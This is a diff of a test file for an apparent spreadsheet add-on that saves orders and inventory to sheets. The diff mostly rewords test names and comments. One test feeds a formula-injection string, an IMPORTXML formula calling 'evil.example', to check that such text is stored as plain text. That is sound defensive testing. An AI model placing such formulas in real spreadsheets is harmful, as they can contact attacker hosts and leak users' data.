@@ -1,4 +1,4 @@
-/** Records reach their sheets with one read and few writes per table, and everything that the user added stays. */
+/** Writes records with few reads and writes, and keeps the user's additions. */
 import { describe, expect, test } from 'vitest';
 import { operations } from '../../src/operations/registry.ts';
 import { decodeRecord } from '../../src/protocol/decode.ts';
@@ -75,7 +75,7 @@ describe('a first pull', () => {
     expect(book.rows('Packages')).toEqual([]);
   });
 
-  test('case 41, case 43: identifiers and hostile texts are written as plain text', () => {
+  test('case 41, case 43: identifiers and hostile strings are written as plain text', () => {
     const book = new InMemoryBook();
     save(book, [order({ OrderNumber: '00017', OrderStatusDescription: '=IMPORTXML("http://evil.example")' })]);
     const { cells, formats } = book.sheet('Orders');
@@ -116,7 +116,7 @@ describe('a second pull', () => {
     );
   });
 
-  test('at the same time writes nothing', () => {
+  test('at the same time writes no cells', () => {
     const book = new InMemoryBook();
     saveStock(book, records);
     book.sheet('Inventory').writes.length = 0;
@@ -132,7 +132,7 @@ describe('a second pull', () => {
     expect(book.rows('Inventory')[42]).toMatchObject({ 'Item number': '9SI42', 'Available quantity': 999 });
   });
 
-  test('leaves rows alone that were not returned', () => {
+  test("leaves rows unchanged that weren't returned", () => {
     const book = new InMemoryBook();
     saveStock(book, records);
     expect(saveStock(book, records.slice(0, 2), THEN + 1)[0]).toMatchObject({ unchanged: 2, gone: 0 });
@@ -140,12 +140,12 @@ describe('a second pull', () => {
   });
 });
 
-describe('the user’s own changes', () => {
-  test('columns, notes and sorting stay with their record', () => {
+describe('the user’s changes', () => {
+  test('keep columns, notes, and sorting with their record', () => {
     const book = new InMemoryBook();
     saveStock(book, [stock('9SIA', 1), stock('9SIB', 2), stock('9SIC', 3)]);
     const sheet = book.sheet('Inventory');
-    // The user inserts a first column, types notes and sorts from last to first.
+    // The user inserts a first column, types notes, and reverses the row order.
     const item = sheet.cells[0]!.indexOf('Item number');
     const notes = sheet.cells.slice(1).map((row) => `note of ${String(row[item])}`);
     sheet.insertColumn(1, ['My note', ...notes]);
@@ -162,7 +162,7 @@ describe('the user’s own changes', () => {
     ]);
   });
 
-  test('a total row between ours is never written, not even with its own values', () => {
+  test('a total row between add-on rows is never written, not even with its own values', () => {
     const book = new InMemoryBook();
     saveStock(book, [stock('9SIA', 1), stock('9SIB', 2)]);
     const sheet = book.sheet('Inventory');
@@ -215,7 +215,7 @@ describe('the user’s own changes', () => {
   });
 });
 
-test('case 96: a blank buyer field does not overwrite the earlier value', () => {
+test("case 96: a blank buyer field doesn't overwrite the earlier value", () => {
   const book = new InMemoryBook();
   save(book, [order({ OrderNumber: 1, CustomerName: 'Zoe', ShipToCityName: 'Reno', OrderStatus: 0 })]);
   save(book, [order({ OrderNumber: 1, CustomerName: '', ShipToCityName: null, OrderStatus: 2 })], THEN + 1);
@@ -226,7 +226,7 @@ test('case 96: a blank buyer field does not overwrite the earlier value', () => 
   expect(book.rows('Orders')).toMatchObject([{ 'Customer name': 'Max', 'Order status': '' }]);
 });
 
-test('case 87: an order that arrives twice in one slice is written once, with its lines', () => {
+test('case 87: an order returned twice in one slice is written once, with its lines', () => {
   const book = new InMemoryBook();
   const twice = order({ OrderNumber: 1, ItemInfoList: [line, line] });
   const counts = save(book, [twice, order({ OrderNumber: 2, ItemInfoList: [line] }), twice]);
@@ -268,7 +268,7 @@ describe('a nearly full workbook', () => {
     expect(JSON.stringify(book.sheet('Inventory').cells)).toBe(before);
   });
 
-  test('still takes rows that fit, and changes to existing rows', () => {
+  test('accepts rows that fit, and changes to existing rows', () => {
     const book = new InMemoryBook();
     book.others = 8_900_000;
     saveStock(book, many);
@@ -278,7 +278,7 @@ describe('a nearly full workbook', () => {
   });
 });
 
-test('headers are not written again when all are in place', () => {
+test("headers aren't rewritten if all are in place", () => {
   const book = new InMemoryBook();
   saveStock(book, [stock('9SI1', 1)]);
   const sheet = book.sheet('Inventory');
